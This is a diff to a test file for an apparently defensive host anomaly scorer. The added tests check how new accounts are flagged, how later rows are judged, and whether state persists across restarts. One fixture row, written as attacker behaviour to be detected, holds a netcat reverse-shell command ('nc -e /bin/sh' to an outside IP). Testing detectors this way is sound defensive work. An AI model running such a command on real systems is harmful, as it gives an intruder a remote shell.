@@ -116,6 +116,17 @@ t.test('a fleet prior scores subjects on a host with no history', async (t) => {
   t.match(habit.model, /^fleet:/, `a new host's first rows are scored by the fleet prior (${habit.model})`);
   t.not(habit.verdict, 'bad', `a fleet-wide habit is not bad (${habit.score}: ${habit.reasons})`);
   t.equal(shell.verdict, 'bad', `an odd binary is (${shell.score}: ${shell.reasons})`);
+  // a new account is evidence once for the fleet prior too (newacct): the host's baseline is
+  // still learning here, so the prior alone scores mallory's rows
+  const [hello, ...routine] = await fresh.scoreRows(
+    Array.from({ length: 8 }, (_, i) => row(t0 + 600 + i * 120, '1002', HABITS[i % HABITS.length][0], HABITS[i % HABITS.length][1], '/bin/bash', 'c-1')),
+  );
+  t.equal(hello.verdict, 'bad', `a new account's first row is bad by the prior (${hello.score}: ${hello.reasons})`);
+  t.same(
+    routine.filter((x) => x.verdict === 'bad').map((x) => `${x.model} ${x.score}: ${x.reasons}`),
+    [],
+    'its routine rows after are judged by what they do',
+  );
 
   // a prior others may write: they could teach every new subject that their tools are normal
   fs.chmodSync(file, 0o666);
@@ -217,4 +228,86 @@ t.test("offline, a uid is named by its own host's rows: the same uid is another 
     { ...there, time: START + 6 },
   ]);
   t.same([e.subject, f.subject], ['carol', 'carol'], "an earlier build's names, which knew no host, stand in on every host");
+});
+
+t.test('a new account is evidence once: its first row, then what it does (newacct)', async (t) => {
+  // A new hire's account learns for weeks in its own subject, and meanwhile the host baseline
+  // scores it. The pool learns only rows it did not call bad, so it never learnt the account:
+  // `who=<account>` stayed never seen and every row of the account was an alert, for weeks
+  // (the held-out set's new developer: 163 of 165 rows below 0.3). Seeing an account act is
+  // recorded whatever the verdict; its behaviour is not.
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-newacct-'));
+  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
+  const r = rng(6);
+  const users = [...USERS, { uid: '1003', username: 'eve' }];
+  const scorer = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
+  scorer.setUsers(users);
+  await scorer.scoreRows([...days(r, 0, 3, 250, '1000'), ...days(r, 0, 3, 4, '1001')].sort((a, b) => a.time - b.time));
+  const t0 = START + 3 * 24 * HOUR + 10 * HOUR;
+  const routine = (from: number, n: number, auid: string) =>
+    Array.from({ length: n }, (_, i) => {
+      const [exe, cmd, parent] = HABITS[i % HABITS.length];
+      return row(from + i * 120, auid, exe, cmd, parent);
+    });
+  const first = await scorer.scoreRows(routine(t0, 12, '1002'));
+  t.equal(first[0].subject, 'mallory');
+  t.equal(first[0].verdict, 'bad', `the account's first row is the evidence of a new account (${first[0].score}: ${first[0].reasons})`);
+  t.match(first[0].reasons, /first activity of this account here/);
+  const later = first.slice(1).filter((x) => x.verdict === 'bad');
+  t.same(
+    later.map((x) => `${x.score}: ${x.reasons}`),
+    [],
+    "its routine rows after are judged by what they do: the host's habits are not bad",
+  );
+
+  // an account made by an attacker and used at night: its first row is bad, and its odd rows
+  // are bad by what they are, not by whose they are
+  const night = START + 3 * 24 * HOUR + 23 * HOUR;
+  const [hello, ...odd] = await scorer.scoreRows([
+    row(night, '1003', '/usr/bin/ls', 'ls -la', '/bin/bash'),
+    row(night + 30, '1003', '/tmp/.x/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/bin/bash'),
+    row(night + 60, '1003', '/dev/shm/k', '/dev/shm/k -s', '/bin/bash'),
+  ]);
+  t.equal(hello.verdict, 'bad', `the attacker's account's first row is bad (${hello.score}: ${hello.reasons})`);
+  for (const x of odd) {
+    t.equal(x.verdict, 'bad', `and so is a binary from a temporary folder (${x.score}: ${x.reasons})`);
+    t.match(x.reasons, /by `eve`, an account new here since \d{4}-\d\d-\d\d \d\d:\d\d UTC/, 'and the reasons say whose row it is');
+  }
+
+  // the record of accounts is state: it survives a restart
+  scorer.save();
+  const again = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
+  again.setUsers(users);
+  const t1 = START + 4 * 24 * HOUR + 10 * HOUR;
+  const afterRestart = await again.scoreRows(routine(t1, 6, '1002'));
+  t.same(
+    afterRestart.filter((x) => x.verdict === 'bad').map((x) => `${x.score}: ${x.reasons}`),
+    [],
+    'after a restart the account is still one seen before',
+  );
+
+  // a state of the build before, which kept no record of accounts, loads; the accounts it
+  // learnt are known, and a new account is evidence once again
+  for (const name of fs.readdirSync(dir)) {
+    const file = path.join(dir, name);
+    if (!name.endsWith('.json') || !fs.statSync(file).isFile()) continue;
+    const saved = JSON.parse(fs.readFileSync(file, 'utf8'));
+    if (!String(saved.payload?.name).startsWith('*@')) continue;
+    for (const m of saved.payload.models) delete m.accounts;
+    fs.writeFileSync(file, JSON.stringify(saved), { mode: 0o600 });
+  }
+  const older = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
+  older.setUsers(users);
+  const t2 = START + 5 * 24 * HOUR + 10 * HOUR;
+  const [carol] = await older.scoreRows([row(t2, '1001', '/usr/bin/git', 'git status', '/bin/bash')]);
+  t.not(carol.verdict, 'bad', `an account the older state learnt is known (${carol.score}: ${carol.reasons})`);
+  const upgraded = await older.scoreRows(routine(t2 + 600, 6, '1002'));
+  t.same(
+    upgraded
+      .slice(1)
+      .filter((x) => x.verdict === 'bad')
+      .map((x) => `${x.score}: ${x.reasons}`),
+    [],
+    'after the upgrade an account the older state never learnt is evidence once, then judged by its rows',
+  );
 });
